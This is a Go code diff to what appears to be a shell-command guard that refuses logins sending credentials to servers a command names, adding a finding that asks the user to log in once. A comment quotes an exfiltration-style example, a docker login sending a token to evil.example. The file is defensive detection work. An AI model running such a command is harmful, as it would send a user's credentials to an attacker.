@@ -536,15 +536,25 @@ func psLoginInput(in *Input, c *Command, name string) bool {
 // written out (docker login evil.example -p "$T") sends the credential
 // where the writer says, and stays refused.
 func loginFromEnv(in *Input, c *Command, name string) (*spec, parsed, bool) {
+	s, p, ok := loginSpec(c)
+	if !ok {
+		return nil, parsed{}, false
+	}
+	if server, _ := chosenServer(in, c, p, name); server != "" {
+		return nil, parsed{}, false
+	}
+	return s, p, true
+}
+
+// loginSpec returns the spec of c and c's words parsed by it when c is
+// a login of loginSpecs: one given a secret (spec.extra's secret or
+// secretStdin).
+func loginSpec(c *Command) (*spec, parsed, bool) {
 	s, rest := lookupSpec(c)
 	if s == nil || len(s.extra().secret)+len(s.extra().secretStdin) == 0 {
 		return nil, parsed{}, false
 	}
-	p := parseArgs(s, rest)
-	if chosenServer(in, c, p, name) != "" {
-		return nil, parsed{}, false
-	}
-	return s, p, true
+	return s, parseArgs(s, rest), true
 }
 
 // chosenServer returns the server a login c, parsed as p, sends the
@@ -554,8 +564,8 @@ func loginFromEnv(in *Input, c *Command, name string) (*spec, parsed, bool) {
 // output, "$(cat host.txt)", a variable the input sets or loops over,
 // literal text around a variable: "$R.evil.example"). A server from the
 // environment the input runs in ("$CI_REGISTRY") is the user's choice.
-// "" when none.
-func chosenServer(in *Input, c *Command, p parsed, name string) string {
+// "" when none; opt is the option that names it ("" for an operand).
+func chosenServer(in *Input, c *Command, p parsed, name string) (server, opt string) {
 	_, domains := credService(name)
 	chosen := func(w Word) bool {
 		if w.Literal {
@@ -565,15 +575,15 @@ func chosenServer(in *Input, c *Command, p parsed, name string) string {
 	}
 	for _, a := range p.operands {
 		if chosen(a) {
-			return a.Value
+			return a.Value, ""
 		}
 	}
 	for _, o := range p.opts {
 		if (o.name == "--hostname" || o.name == "-h") && chosen(Word{Value: o.value, Literal: !strings.ContainsAny(o.value, "$%`")}) {
-			return o.value
+			return o.value, o.name
 		}
 	}
-	return ""
+	return "", ""
 }
 
 // envOnlyWord reports whether v, a word after quote removal, is made
@@ -626,8 +636,17 @@ func envOnlyWord(in *Input, g lexer.Grammar, v string) bool {
 // (loginFromEnv: acr_token to *.azurecr.io): a server written out sends
 // the file where the writer chose.
 func loginReadsFile(in *Input, o *Command, p string) bool {
+	ok, server, _ := loginOfFile(in, o, p)
+	return ok && server == ""
+}
+
+// loginOfFile reports whether o is a login that reads the file p as its
+// one secret as loginReadsFile says, the server aside, and returns the
+// server it sends it to that the writer chose (chosenServer: "" when
+// none) and the option naming it.
+func loginOfFile(in *Input, o *Command, p string) (ok bool, server, opt string) {
 	if len(o.Wrappers) > 0 || credPathRule(p) != "cred.cloud-file" || !readsSecretStdin(o) {
-		return false
+		return false, "", ""
 	}
 	base := path.Base(strings.ReplaceAll(p, `\`, "/"))
 	base = strings.TrimSuffix(base, path.Ext(base))
@@ -636,10 +655,49 @@ func loginReadsFile(in *Input, o *Command, p string) bool {
 		one = one || secretFileWords.has(w)
 	}
 	if !one {
-		return false
+		return false, "", ""
 	}
-	_, _, ok := loginFromEnv(in, o, strings.NewReplacer("-", "_", ".", "_").Replace(strings.TrimLeft(base, "._-")))
-	return ok
+	_, parsed, ok := loginSpec(o)
+	if !ok {
+		return false, "", ""
+	}
+	server, opt = chosenServer(in, o, parsed, strings.NewReplacer("-", "_", ".", "_").Replace(strings.TrimLeft(base, "._-")))
+	return true, server, opt
+}
+
+// loginElsewhere returns the finding of c reading the file p (shown as
+// shown) when what keeps it from being a login's one secret
+// (loginReadsFile) is only the server the writer chose: c the login,
+// given the file on its standard input, or the one login all c prints
+// goes into when c only prints what it reads (prints), the server
+// written out. The guard cannot tell that server
+// is the one the credential is for; the user can log in there once.
+func loginElsewhere(ctx *Context, c *Command, p, shown string, prints bool) (Finding, bool) {
+	login := c
+	if !readsSecretStdin(c) {
+		if ctx == nil || ctx.Input == nil || len(c.Redirs) > 0 || c.assigned || len(c.Wrappers) > 0 || !prints {
+			return Finding{}, false
+		}
+		login = soleReader(ctx.Input, c)
+		if login == nil || len(login.Feeds) != 1 {
+			return Finding{}, false
+		}
+	}
+	var in *Input
+	if ctx != nil {
+		in = ctx.Input
+	}
+	ok, server, opt := loginOfFile(in, login, p)
+	s, _ := lookupSpec(login)
+	if !ok || server == "" || s == nil || strings.ContainsAny(server, "$`%(") {
+		return Finding{}, false
+	}
+	again := s.path + " " + server
+	if opt != "" {
+		again = s.path + " " + opt + " " + server
+	}
+	return finding("cred.cloud-file", c, "it sends the credential file "+shown+" to "+server+", a server the command names, which the guard cannot tell is the one the credential is for",
+		"ask the user to log in there once (`"+again+"`): the tool keeps the login for later commands"), true
 }
 
 // secretFileWords are the words of a file's name that say it holds one
